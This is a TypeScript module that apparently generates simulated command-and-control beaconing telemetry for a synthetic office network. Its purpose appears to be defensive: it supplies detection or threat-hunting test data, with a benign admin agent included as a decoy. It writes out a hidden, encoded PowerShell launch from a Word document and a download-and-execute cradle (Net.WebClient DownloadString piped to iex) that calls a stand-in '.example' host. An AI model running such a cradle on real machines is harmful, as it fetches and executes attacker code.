import { HOUR_MS, MINUTE_MS, SECOND_MS, type Span } from '../../core/time.ts';
import { anyAddress } from '../addresses.ts';
import type { Traffic } from '../connect.ts';
import { type Instance, startProcess } from '../instances.ts';
import type { Host, Office } from '../office.ts';
import type { Attack, Plan, Plant } from '../plant.ts';
import { Draws } from '../random.ts';
import { hoursBefore, Scene } from '../scene.ts';

const NAME = 'c2-beacon';
const TRAFFIC: Traffic = { port: 443, sent: 450, received: 700, lastsMs: 900 };
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

interface Beat {
  readonly process: Instance;
  readonly ip: string;
  readonly port: number;
  readonly everyMs: number;
  readonly jitter: number;
  readonly from: number;
  readonly hours: number;
}

/** Implants that call at a period with jitter, one outside and one inside of the network; agents that do the same. */
export function c2Beacon(office: Office, span: Span): Attack {
  const draws = new Draws(office.seed, NAME);
  const plan = { office, span, draws };
  const people = draws.shuffle(office.byRole.workstation);
  return {
    name: NAME,
    technique: 'T1071.001',
    hunt: null,
    plants: [macro(plan, people.slice(0, 1)), inside(plan, people.slice(1, 2)), agent(plan, people.slice(2, 8))],
  };
}

/** A document starts PowerShell, whose encoded command calls home every minute, a fifth early or late. */
function macro(plan: Plan, hosts: readonly Host[]): Plant {
  const scene = new Scene(plan, NAME, hoursBefore(plan, 11));
  const ip = anyAddress(plan.draws);
  const domain = `cdn-${plan.draws.hex(6)}.example`;
  const paces = hosts.map((host) => {
    const word = scene.start(host, {
      path: WORD,
      line: `"${WORD}" /n "Q3 forecast.docm"`,
      parent: scene.desktop(host),
    });
    const line = `powershell.exe -nop -w hidden -enc ${Buffer.from(plan.draws.hex(40)).toString('base64')}`;
    const shell = scene.wait(20 * SECOND_MS).start(host, { path: POWERSHELL, line, parent: word });
    scene.script(shell, `$w = New-Object Net.WebClient; iex $w.DownloadString('https://${domain}/a')`);
    scene.lookup(shell, domain, [ip]);
    return beat(plan, { process: shell, ip, port: 443, everyMs: MINUTE_MS, jitter: 0.2, from: 11, hours: 9 });
  });
  return scene.plant('PowerShell, started by a document, reaches one address every 60 s with 20 % jitter', null, {
    paces,
  });
}

/** One implant asks another inside, which has the way out. */
function inside(plan: Plan, hosts: readonly Host[]): Plant {
  const scene = new Scene(plan, `${NAME}.inside`, hoursBefore(plan, 9));
  const relay = plan.office.byRole.server.at(-1)?.ip ?? '10.20.0.10';
  const path = 'C:\\Users\\Public\\Libraries\\rundll32.exe';
  const paces = hosts.map((host) => {
    const line = `${path} C:\\Users\\Public\\Libraries\\thumbs.dll,Start`;
    const process = scene.start(host, { path, line, parent: scene.desktop(host), signer: null });
    return beat(plan, { process, ip: relay, port: 8080, everyMs: 30 * SECOND_MS, jitter: 0.1, from: 9, hours: 6 });
  });
  return scene.plant('A program in a public folder reaches a server of the office every 30 s', null, { paces });
}

function agent(plan: Plan, hosts: readonly Host[]): Plant {
  const scene = new Scene(plan, `${NAME}.agent`, hoursBefore(plan, 12));
  const ip = anyAddress(plan.draws);
  const program = {
    path: 'C:\\Program Files\\Harborwatch\\watchagent.exe',
    signer: 'Harborwatch GmbH',
    lasts: 'boot',
    account: 'system',
  } as const;
  const paces = hosts.map((host) => {
    const process = startProcess(host, program, [plan.office.seed, `${NAME}.agent`, host.name], 0);
    return beat(plan, { process, ip, port: 443, everyMs: MINUTE_MS, jitter: 0.05, from: 12, hours: 8 });
  });
  const because = 'A signed agent in Program Files, on several hosts';
  return scene.plant('An agent of the administrators that reports every minute', because, { paces });
}

function beat({ span }: Plan, { process, ip, port, everyMs, jitter, from, hours }: Beat): Plant['paces'][number] {
  const start = span.end - from * HOUR_MS + MINUTE_MS;
  return {
    process,
    remote: { ip, port, domain: null },
    traffic: { ...TRAFFIC, port },
    span: { start, end: start + hours * HOUR_MS },
    everyMs,
    jitter,
  };
}
